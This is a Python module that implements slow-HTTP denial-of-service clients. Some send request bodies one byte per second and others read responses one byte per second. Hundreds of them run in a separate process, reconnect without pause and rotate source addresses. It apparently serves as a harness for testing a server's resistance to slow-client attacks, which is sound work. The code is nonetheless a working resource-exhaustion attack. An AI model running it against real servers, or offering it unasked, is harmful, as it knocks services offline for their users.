"""Clients that send or take one byte a second, hundreds of them in one process of their own."""

from __future__ import annotations

import asyncio
import itertools
import multiprocessing
import socket
import time
from collections import Counter
from collections.abc import Sequence
from dataclasses import dataclass
from multiprocessing.connection import Connection
from types import TracebackType
from typing import Self
from urllib.parse import urlsplit

BYTE_EVERY = 1.0  # seconds
_SMALL_BUFFER = 4096


@dataclass(frozen=True)
class Writer:
    """Sends the head at once and the body byte by byte; without `length` in chunks."""

    method: str
    path: str
    content_type: str
    length: int | None

    def head(self, host: str) -> bytes:
        size = "Transfer-Encoding: chunked" if self.length is None else f"Content-Length: {self.length}"
        lines = [f"{self.method} {self.path} HTTP/1.1", f"Host: {host}", f"Content-Type: {self.content_type}", size]
        return "\r\n".join([*lines, "", ""]).encode()

    async def run(self, attack: _Running) -> str:
        reader, writer = await attack.connect()
        writer.write(self.head(attack.host))
        answer = asyncio.ensure_future(reader.read(2000))
        while not answer.done():
            writer.write(b"x" if self.length is not None else b"1\r\nx\r\n")
            await asyncio.wait([answer], timeout=BYTE_EVERY)
        writer.close()
        words = answer.result().split(maxsplit=2)
        return f"writer {words[1].decode()}" if words else "writer cut"


@dataclass(frozen=True)
class Reader:
    """Asks for a file and takes its bytes one by one."""

    path: str

    async def run(self, attack: _Running) -> str:
        loop = asyncio.get_running_loop()
        with socket.socket() as connection:
            connection.setblocking(False)
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _SMALL_BUFFER)
            connection.bind(attack.next_source())
            await loop.sock_connect(connection, attack.address)
            attack.count += 1
            try:
                await loop.sock_sendall(connection, f"GET {self.path} HTTP/1.1\r\nHost: {attack.host}\r\n\r\n".encode())
                while await loop.sock_recv(connection, 1):
                    await asyncio.sleep(BYTE_EVERY)
                    if _is_closed(connection):
                        return "reader cut"
            finally:
                attack.count -= 1
        return "reader cut"


def _is_closed(connection: socket.socket) -> bool:
    """By the server, though not all has been read: in CLOSE_WAIT, or reset."""
    return connection.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] in {7, 8}


class _Running:
    def __init__(self, url: str, sources: Sequence[str]) -> None:
        self._sources = itertools.cycle(sources)
        parts = urlsplit(url)
        self.address = (parts.hostname or "", parts.port or 80)
        self.host = parts.netloc
        self.count = 0
        self.outcomes: Counter[str] = Counter()

    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        return await asyncio.open_connection(*self.address, local_addr=self.next_source())

    def next_source(self) -> tuple[str, int]:
        return next(self._sources), 0

    async def keep_attacking(self, client: Writer | Reader) -> None:
        """As soon as it is ended it begins again."""
        while True:
            began = time.monotonic()
            if isinstance(client, Writer):
                self.count += 1
            try:
                outcome = await client.run(self)
            except OSError:
                outcome = "writer cut" if isinstance(client, Writer) else "reader cut"
            if isinstance(client, Writer):
                self.count -= 1
            self.outcomes[outcome] += 1
            await asyncio.sleep(max(0.0, 1.0 - (time.monotonic() - began)))


class Attack:
    """Goes on until the end of the block; from a process of its own, so that those who measure are not disturbed."""

    def __init__(self, url: str, clients: Sequence[Writer | Reader], *, sources: Sequence[str]) -> None:
        """`sources`: addresses of this machine that the clients come from."""
        self._here, there = multiprocessing.Pipe()
        self._process = multiprocessing.Process(target=_attack, args=(url, clients, sources, there), daemon=True)

    def __enter__(self) -> Self:
        self._process.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._process.terminate()
        self._process.join()

    def count_connections(self) -> int:
        self._here.send("connected")
        return int(self._here.recv())

    def outcomes(self) -> Counter[str]:
        """How those ended that have ended so far: `writer 408`, `reader cut`."""
        self._here.send("outcomes")
        return Counter(self._here.recv())


def _attack(url: str, clients: list[Writer | Reader], sources: Sequence[str], there: Connection) -> None:
    asyncio.run(_attack_until_terminated(_Running(url, sources), clients, there))


async def _attack_until_terminated(running: _Running, clients: list[Writer | Reader], there: Connection) -> None:
    tasks = [asyncio.ensure_future(running.keep_attacking(client)) for client in clients]
    while tasks:
        await asyncio.sleep(0.2)
        if there.poll():
            there.send(running.count if there.recv() == "connected" else dict(running.outcomes))
